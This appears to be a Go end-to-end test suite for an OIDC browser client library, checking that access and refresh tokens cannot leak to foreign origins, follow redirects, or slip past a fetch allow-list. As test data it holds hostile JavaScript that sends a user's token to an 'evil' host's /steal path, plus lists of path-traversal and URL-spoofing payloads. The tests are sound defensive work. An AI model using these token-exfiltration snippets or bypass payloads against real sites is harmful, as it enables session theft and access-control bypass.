//go:build !js

package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/oidcspa/oidcspa/oidc/oidctest"
	"github.com/oidcspa/oidcspa/web"
)

// Under a policy of the worker that names provider and API, no call of a
// hostile page has the program send a token elsewhere.
func TestHostileTokensUnderANamedPolicy(t *testing.T) {
	rows := []struct{ name, attack string }{
		{"a second manager with another list", `(async (evil) => {
			const second = new oidc.UserManager({ ...settings, fetch: { allow: [evil] } });
			if ((await second.getUser()) === null) throw new Error("nobody is signed in");
			await second.fetch(evil + "/steal");
		})`},
		{"the token in the address of the metadata", `(async (evil) => {
			const { access_token } = await um.getUser();
			await new oidc.UserManager({ ...settings, client_id: "other", metadataUrl: evil + "/?" + access_token }).signinSilent();
		})`},
		{"the refresh token to other metadata of the same issuer", `(async (evil) => {
			const { OidcClient } = await import("/index.js");
			const user = await um.getUser();
			const metadata = { issuer: settings.authority, authorization_endpoint: evil + "/a", token_endpoint: evil + "/t", jwks_uri: evil + "/k" };
			await new OidcClient({ ...settings, fetch: undefined, metadata }).useRefreshToken({ state: { refresh_token: user.access_token, profile: user.profile, scope: "openid" } });
		})`},
		{"a user with the token of another provider", `(async (evil) => {
			const user = await um.getUser();
			const second = new oidc.UserManager({ ...settings, authority: evil, fetch: { allow: [evil] } });
			await second.storeUser(user);
			await second.fetch(evil + "/steal");
		})`},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			evil := newForeign(t)
			s := newStage(t, func(s *stage) {
				s.app.setPolicy(t, web.Policy{ConnectSrc: s.op.Issuer + " " + s.api.origin})
			})
			s.app.expectReports()
			s.honest.expectProblems()
			s.honest.visit(s.app.origin + "/")
			if code := signinCode(s.honest); code != "" {
				t.Fatalf("code %q", code)
			}
			if code := codeOf(s.honest, fmt.Sprintf("%s(%q)", row.attack, evil.origin)); code == "" {
				t.Error("the attack succeeds")
			}
			if requests := evil.requests(); len(requests) != 0 {
				t.Errorf("the other site got %d requests", len(requests))
			}
			s.gone()
			s.checkCalls("after")
		})
	}
}

// A policy that names nobody lets nothing out of the worker: not even to the
// provider.
func TestHostileTokensUnderThePolicyByDefault(t *testing.T) {
	s := newStage(t, func(s *stage) { s.app.setPolicy(t, web.Policy{}) })
	s.app.expectReports()
	s.honest.expectProblems()
	s.honest.visit(s.app.origin + "/")
	if code := codeOf(s.honest, "um.signinSilent()"); code == "" {
		t.Error("the worker connects to another origin")
	}
	if requests := s.op.Requests(); len(requests) != 0 {
		t.Errorf("the provider was asked for %q", requests)
	}
}

// Wherever an API leads, the token goes to what fetch.allow names alone, and
// the proof of its key goes where the token does.
func TestHostileTokensFollowNoRedirect(t *testing.T) {
	const refused = "redirect_refused"
	rows := []struct {
		name, path string
		allow      string // in JSON; $ is the origin of the API
		dpop       bool
		want       string // code
		follows    bool   // the token does
	}{
		{name: "on its own origin, off the list", path: "/here", allow: `["$/here"]`, want: refused},
		{name: "on its own origin, off the list, bound to a key", path: "/here", allow: `["$/here"]`, dpop: true, want: refused},
		{name: "on its own origin, as the app wants", path: "/here", allow: `[{"url": "$/here", "tokenFollowsRedirects": true}]`, follows: true},
		{name: "on its own origin, all of which is allowed", path: "/here", allow: `["$"]`, follows: true},
		{name: "on its own origin, all of which is allowed, bound to a key", path: "/here", allow: `["$"]`, dpop: true, want: refused},
		{name: "on its own origin, to the address of another token", path: "/here", allow: `["$", {"url": "$/digest", "resource": "urn:digest"}]`, want: refused},
		{name: "to another site", path: "/elsewhere", allow: `["$/elsewhere"]`, want: refused},
		{name: "to another site, from an origin that is allowed", path: "/elsewhere", allow: `["$"]`},
		{name: "to another site, bound to a key", path: "/elsewhere", allow: `["$"]`, dpop: true, want: refused},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			evil := newForeign(t)
			s := newStage(t, func(s *stage) {
				s.app.set("dpop", row.dpop)
				s.api.other = evil.origin + "/steal"
				s.app.set("fetch", map[string]any{"allow": json.RawMessage(strings.ReplaceAll(row.allow, "$", s.api.origin))})
			})
			s.honest.expectProblems()
			s.honest.visit(s.app.origin + "/")
			if code := signinCode(s.honest); code != "" {
				t.Fatalf("code %q", code)
			}
			if code := codeOf(s.honest, "um.fetch('"+s.api.origin+row.path+"')"); code != row.want {
				t.Errorf("code %q, want %q", code, row.want)
			}
			authorized, followed := 0, false
			for _, request := range s.api.requests() {
				switch {
				case request.Path == row.path && request.Authorization != "":
					authorized++
				case request.Path != row.path && (request.Authorization != "" || request.Proof != ""):
					followed = true
				}
			}
			if authorized != 1 {
				t.Errorf("the API was asked %d times with the token", authorized)
			}
			if followed != row.follows {
				t.Errorf("the token or a proof went on: %t", followed)
			}
			for _, request := range evil.requests() {
				for _, header := range []string{"\r\nAuthorization:", "\r\nDpop:"} {
					if strings.Contains(request, header) {
						t.Errorf("the other site got the header %s", strings.TrimSpace(header))
					}
				}
			}
			if n := len(evil.requests()); row.want != "" && n != 0 {
				t.Errorf("the other site got %d requests", n)
			}
		})
	}
}

// What servers may read as another path is not below the one that is allowed.
func TestHostileTokensAtTheEdgesOfTheList(t *testing.T) {
	s := newStage(t)
	s.app.set("fetch", map[string]any{"allow": []string{s.api.origin + "/api"}})
	tab := s.hostile()
	s.honest.visit(s.app.origin + "/")
	if code := signinCode(s.honest); code != "" {
		t.Fatalf("code %q", code)
	}
	eval[bool](tab, `(async () => { globalThis.h = await hand({ lock: await holdLock() }); await h.open(); return true; })()`)
	if code := eval[string](tab, fmt.Sprintf("h.fetch(%q)", s.api.origin+"/api/digest")); code != "" {
		t.Fatalf("what is allowed: code %q", code)
	}
	s.api.requests()
	port := s.api.origin[strings.LastIndex(s.api.origin, ":"):]
	for _, address := range []string{
		"/api/..;/private", "/api/..;a=b/private", "/api/.;/..;/private", "/api/%252e%252e/private", "/api/%25252e%25252e/private",
		"/api/..%00/private", "/api/%2e%2e%00/private", "/api/..%3b/private", "/api/..%253b/private",
		"/api/../private", "/api/%2e%2e/private", "/api/.%2E/private", "/api/..%2fprivate", "/api/..%5cprivate", "/api/..\\private", "/api\\..\\private",
		"/api/%c0%ae%c0%ae/private", "/api/\t../private", "/api/..\n/private", "/apis", "/API/x", "/api%2f..%2fprivate", "//private", "/",
	} {
		if code := eval[string](tab, fmt.Sprintf("h.fetch(%q)", s.api.origin+address)); code != "fetch_not_allowed" {
			t.Errorf("%q: code %q", address, code)
		}
	}
	for _, address := range []string{
		"http://user@localhost" + port + "/api", "http://user:word@localhost" + port + "/api", "http://localhost./api", "http://LOCALHOST.evil.example/api",
		"http://localhost" + port + "0/api", "http://localhost:80/api", "https://localhost" + port + "/api", "http://127.0.0.1" + port + "/api",
		"http://ⓛocalhost" + port + "@evil.example/api", "data:text/plain,x", "blob:" + s.app.origin + "/x", "ws://localhost" + port + "/api", "javascript:1", "", "/api",
	} {
		if code := eval[string](tab, fmt.Sprintf("h.fetch(%q)", address)); code != "fetch_not_allowed" {
			t.Errorf("%q: code %q", address, code)
		}
	}
	for _, request := range s.api.requests() {
		t.Errorf("%s was asked, with the token: %t", request.Path, request.Authorization != "")
	}
}

// A browser that keeps what the userinfo endpoint answered does not answer for
// the next person.
func TestHostileUserinfoThatMayBeCached(t *testing.T) {
	s := newStage(t, func(s *stage) {
		s.app.set("loadUserInfo", true)
		s.op.Respond = func(endpoint string, w http.ResponseWriter, _ *http.Request) bool {
			if endpoint == oidctest.Userinfo {
				w.Header().Set("Cache-Control", "private, max-age=3600")
			}
			return false
		}
	})
	s.honest.visit(s.app.origin + "/")
	for i, person := range []string{"subject-1", "subject-2", "subject-1"} {
		s.op.Edit(func() { s.op.Subject = person })
		if code := signinCode(s.honest); code != "" {
			t.Errorf("%s: code %q", person, code)
		}
		if got := eval[string](s.honest, subject); got != person {
			t.Errorf("signed in is %s, want %s", got, person)
		}
		if n := s.op.Count(oidctest.Userinfo); n != i+1 {
			t.Errorf("%d userinfo requests, want %d", n, i+1)
		}
		eval[bool](s.honest, "um.removeUser().then(() => true)")
	}
}
